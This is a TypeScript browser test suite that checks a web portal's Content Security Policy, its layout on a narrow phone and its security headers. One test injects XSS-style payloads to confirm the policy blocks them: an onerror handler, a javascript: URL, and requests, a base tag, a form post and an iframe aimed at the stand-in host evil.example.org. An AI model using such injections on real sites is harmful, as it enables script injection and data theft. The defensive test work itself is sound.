import { eq } from 'drizzle-orm';
import type { HTTPResponse, Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { drafts } from '@/db/schema/subscriber';
import { ROLES, type Role } from '@/lib/domain/permissions';
import { signIn } from '../fixtures/actors-staff';
import { ApiCustomer } from '../fixtures/api';
import { DESKTOP, hydrated, openPerson, PHONE } from '../fixtures/browser';
import { addressOf, adminPages, portalPages, visit as visitAddress, widerThanScreen } from '../fixtures/pages';
import { takePolicyViolations } from '../fixtures/policy';
import { until } from '../fixtures/sandbox-client';
import { openStage, type Stage } from '../fixtures/stage';
import { makeCustomer, makeStaff } from '../fixtures/world';

/** Pages that are not there, outside a channel and inside. */
const NOWHERE = ['/nowhere', '/c/[channel]/nowhere', '/c/[channel]/orders/[orderNo]/nowhere'];

let stage: Stage;
let values: Record<string, string>;
let customer: Page;
let staff: Page;

beforeAll(async () => {
  stage = await openStage();
  const { world } = stage;
  const who = await makeCustomer(world);
  const api = await ApiCustomer.signIn(world, who);
  const { orderNo, outTradeNo } = await api.orderToPay('legal_mobile', await stage.papers(who));
  const [draft] = await world.db.select({ id: drafts.id }).from(drafts).where(eq(drafts.orderNo, orderNo));
  values = { channel: '3394', topic: 'reissue', orderNo, draftId: draft?.id ?? '' };
  customer = (await stage.customer(who, api)).page;
  // The pay page is seen with its QR code, then paid, so that the order can be reviewed.
  await visit(customer, '/c/[channel]/orders/[orderNo]/pay');
  await api.pay(outTradeNo);
  await api.untilState(orderNo, 'paid');
  staff = await openPerson(stage.browser, DESKTOP);
  await signIn(staff, world.system.webUrl, await makeStaff(world, Object.keys(ROLES) as Role[]));
});
afterAll(() => stage?.close());

const visit = (page: Page, pattern: string): Promise<HTTPResponse> =>
  visitAddress(page, stage.world.system.webUrl, addressOf(pattern, values));

const nonceOf = (response: HTTPResponse): string =>
  /script-src 'self' 'nonce-([\w+/=]+)' 'strict-dynamic';/.exec(
    response.headers()['content-security-policy'] ?? '',
  )?.[1] ?? '';

describe('the content security policy', () => {
  it.each([...portalPages(), ...NOWHERE])('lets %s work and refuses nothing', async (pattern) => {
    const response = await visit(customer, pattern);
    expect(nonceOf(response)).not.toBe('');
    expect(response.status()).toBe(NOWHERE.includes(pattern) ? 404 : 200);
    // The page runs: its scripts were not what was refused.
    await hydrated(customer);
    expect(
      await customer.evaluate(() =>
        [...document.body.children].some((part) => Object.keys(part).some((key) => key.startsWith('__react'))),
      ),
    ).toBe(true);
    expect(takePolicyViolations()).toEqual([]);
  });

  it.each(adminPages())('lets /admin%s work and refuses nothing', async (pattern) => {
    const response = await visit(staff, `/admin${pattern}`);
    expect(nonceOf(response)).not.toBe('');
    await staff.waitForSelector('.RaLayout-content, #staff-login, main');
    // Styles came through: with a wrong nonce the page would be bare.
    expect(
      await staff.evaluate(() => [...document.styleSheets].some((sheet) => sheet.ownerNode?.nodeName === 'STYLE')),
    ).toBe(true);
    expect(takePolicyViolations()).toEqual([]);
  });

  it('is another one for every answer', async () => {
    const seen = new Set([
      nonceOf(await visit(customer, '/')),
      nonceOf(await visit(customer, '/')),
      nonceOf(await visit(customer, '/nowhere')),
    ]);
    expect(seen.size).toBe(3);
  });

  it('refuses what a hole in our pages would bring, and the test hears of it', async () => {
    const ways: Record<string, () => void> = {
      'script-src-attr': () =>
        document.body.insertAdjacentHTML('beforeend', '<img alt="" src="data:," onerror="globalThis.stolen = 1">'),
      'script-src-elem': () => {
        location.href = 'javascript:globalThis.stolen = 1';
      },
      'style-src-elem': () =>
        document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' })),
      'img-src': () => document.body.append(Object.assign(new Image(), { src: 'https://evil.example.org/?stolen' })),
      'connect-src': () => void fetch('https://evil.example.org/').catch(() => {}),
      'base-uri': () =>
        document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example.org/' })),
      'form-action': () => {
        const form = Object.assign(document.createElement('form'), {
          action: 'https://evil.example.org/',
          method: 'post',
        });
        document.body.append(form);
        form.submit();
      },
      'frame-src': () =>
        document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example.org/' })),
    };
    await visit(customer, '/c/[channel]');
    for (const act of Object.values(ways)) await customer.evaluate(act);
    const refused = new Set<string>();
    await until('every refusal', async () => {
      for (const text of takePolicyViolations()) refused.add(text.split(' ')[0] ?? '');
      return refused.size >= Object.keys(ways).length;
    });
    expect([...refused].sort()).toEqual(Object.keys(ways).sort());
    expect(await customer.evaluate(() => 'stolen' in globalThis)).toBe(false);
  });
});

describe('a narrow phone', () => {
  it.each([...portalPages(), ...NOWHERE])('shows %s without scrolling sideways', async (pattern) => {
    expect(PHONE.width).toBe(360);
    await visit(customer, pattern);
    expect(await customer.evaluate(() => innerWidth)).toBe(PHONE.width);
    expect(await widerThanScreen(customer, PHONE.width)).toEqual([]);
  });

  it('is found too narrow for what does not fit', async () => {
    await visit(customer, '/c/[channel]');
    await customer.evaluate(() =>
      document.body.append(Object.assign(document.createElement('pre'), { textContent: '宽'.repeat(90) })),
    );
    expect(await widerThanScreen(customer, PHONE.width)).not.toEqual([]);
  });
});

describe('every answer', () => {
  it.each(['/', '/admin', '/api/health/live', '/api/trpc/channel.get', '/pki/crl/issuing.crl', '/nowhere'])(
    'of %s carries the headers',
    async (address) => {
      const { headers } = await fetch(`${stage.world.system.webUrl}${address}`);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('x-frame-options')).toBe('DENY');
      expect(headers.get('referrer-policy')).toBe('same-origin');
      expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
      expect(headers.get('permissions-policy')).toContain('camera=(self), microphone=()');
      expect(headers.get('x-powered-by')).toBeNull();
      // This system is on http: the promise to be reached by https only would lock people out.
      expect(headers.get('strict-transport-security')).toBeNull();
    },
  );
});
